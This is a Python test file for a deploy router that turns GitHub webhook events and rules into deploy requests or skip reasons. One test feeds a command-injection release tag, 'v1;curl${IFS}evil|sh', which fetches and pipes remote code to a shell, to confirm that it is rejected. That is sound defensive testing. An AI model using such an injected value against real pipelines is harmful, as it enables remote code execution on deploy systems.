"""A GitHub event and the rules -> the deploys to run, or why none."""

from __future__ import annotations

import json
from typing import Any

from deploys import Approval, DeployRules, Source, parse_event, requests_for
from tests.deploys.conftest import SHA, payload, raw


def event(name: str, fixture: str | None = None, **changes: Any):
    data = payload(fixture or name)
    for path, value in changes.items():
        target = data
        *parents, leaf = path.split("__")
        for key in parents:
            target = target[key]
        target[leaf] = value
    return parse_event(name, json.dumps(data).encode())


def test_a_successful_workflow_run_deploys_the_mapped_image_with_commit_author_and_link(rules: DeployRules) -> None:
    mapped = requests_for(parse_event("workflow_run", raw("workflow_run.completed")), rules)
    (request,) = mapped.requests
    assert (request.app, request.namespace, request.container) == ("web", "staging", "web")
    assert request.image == f"ghcr.io/acme/web:{SHA}"
    assert (request.commit, request.short_commit, request.author, request.author_slack) == (
        SHA,
        SHA[:7],
        "alice",
        "U0ALICE01",
    )
    assert request.url == "https://github.com/acme/web/actions/runs/289782451"
    assert request.message == "Fix the checkout button"
    assert (request.channel, request.approval, request.source) == ("C0DEPLOYS", Approval.NONE, Source.WORKFLOW_RUN)
    assert request.actor == "ci:workflow_run:acme/web"
    assert request.command().image == request.image


def test_a_run_that_is_not_a_completed_success_deploys_nothing(rules: DeployRules) -> None:
    for fixture in ("workflow_run.requested", "workflow_run.failure"):
        mapped = requests_for(parse_event("workflow_run", raw(fixture)), rules)
        assert mapped.requests == () and "not completed/success" in mapped.skipped[0]


def test_another_branch_or_workflow_deploys_nothing_and_says_why(rules: DeployRules) -> None:
    other_branch = requests_for(
        event("workflow_run", "workflow_run.completed", workflow_run__head_branch="feature"), rules
    )
    other_workflow = requests_for(event("workflow_run", "workflow_run.completed", workflow__name="lint"), rules)
    assert other_branch.requests == () and other_branch.skipped == ("web: branch feature is not main",)
    assert other_workflow.requests == () and "workflow 'lint' is not 'build-image'" in other_workflow.skipped[0]


def test_an_unmapped_repository_deploys_nothing(rules: DeployRules) -> None:
    data = payload("workflow_run.completed")
    data["repository"]["full_name"] = "acme/other"
    mapped = requests_for(parse_event("workflow_run", json.dumps(data).encode()), rules)
    assert mapped.requests == () and mapped.skipped == ("no deploy rule for acme/other on workflow_run",)


def test_repository_names_match_without_case(rules: DeployRules) -> None:
    data = payload("workflow_run.completed")
    data["repository"]["full_name"] = "ACME/Web"
    assert len(requests_for(parse_event("workflow_run", json.dumps(data).encode()), rules).requests) == 1


def test_a_push_to_the_branch_deploys_the_short_sha_to_its_own_channel(rules: DeployRules) -> None:
    (request,) = requests_for(parse_event("push", raw("push")), rules).requests
    assert (request.namespace, request.image, request.channel) == ("dev", f"ghcr.io/acme/web:{SHA[:7]}", "#dev-deploys")
    assert request.url == f"https://github.com/acme/web/commit/{SHA}"


def test_a_deleted_branch_deploys_nothing(rules: DeployRules) -> None:
    mapped = requests_for(event("push", after="0" * 40, deleted=True, head_commit=None), rules)
    assert mapped.requests == () and mapped.skipped == ("the push deleted the ref",)


def test_a_published_release_deploys_its_tag_and_asks_for_two_people(rules: DeployRules) -> None:
    (request,) = requests_for(parse_event("release", raw("release.published")), rules).requests
    assert (request.namespace, request.image) == ("production", "ghcr.io/acme/web:v1.4.2")
    assert (request.approval, request.two_person, request.message) == (Approval.REQUIRED, True, "Checkout fixes")


def test_a_draft_or_edited_release_deploys_nothing(rules: DeployRules) -> None:
    assert requests_for(event("release", "release.published", action="edited"), rules).requests == ()
    assert requests_for(event("release", "release.published", release__draft=True), rules).requests == ()


def test_a_tagged_container_package_deploys_and_an_untagged_manifest_does_not(rules: DeployRules) -> None:
    (request,) = requests_for(parse_event("registry_package", raw("registry_package.published")), rules).requests
    assert request.image == "ghcr.io/acme/web:1.4.2"
    untagged = requests_for(parse_event("registry_package", raw("registry_package.untagged")), rules)
    assert untagged.requests == () and "no tag" in untagged.skipped[0]


def test_a_deployment_to_the_rules_environment_deploys_its_sha(rules: DeployRules) -> None:
    (request,) = requests_for(parse_event("deployment", raw("deployment.created")), rules).requests
    assert (request.image, request.approval, request.message) == (
        f"ghcr.io/acme/web:{SHA}",
        Approval.REQUIRED,
        "Ship the checkout fix",
    )
    staging = requests_for(event("deployment", "deployment.created", deployment__environment="staging"), rules)
    assert staging.requests == () and "environment 'staging' is not 'production'" in staging.skipped[0]


def test_a_hostile_tag_never_becomes_an_image(rules: DeployRules) -> None:
    mapped = requests_for(event("release", "release.published", release__tag_name="v1;curl${IFS}evil|sh"), rules)
    assert mapped.requests == () and "is not an image reference" in mapped.skipped[0]


def test_a_tag_rule_skips_a_branch_push_that_has_no_tag() -> None:
    rules = DeployRules.from_yaml(
        "deploys: [{repo: acme/web, events: [push], app: web, image: 'x/web:{tag}', channel: C0DEPLOYS}]"
    )
    mapped = requests_for(parse_event("push", raw("push")), rules)
    assert mapped.requests == () and "needs a value this push event does not give" in mapped.skipped[0]
    (tagged,) = requests_for(parse_event("push", raw("push.tag")), rules).requests
    assert tagged.image == "x/web:v1.4.2"


def test_ping_deploys_nothing(rules: DeployRules) -> None:
    assert requests_for(parse_event("ping", raw("ping")), rules).requests == ()
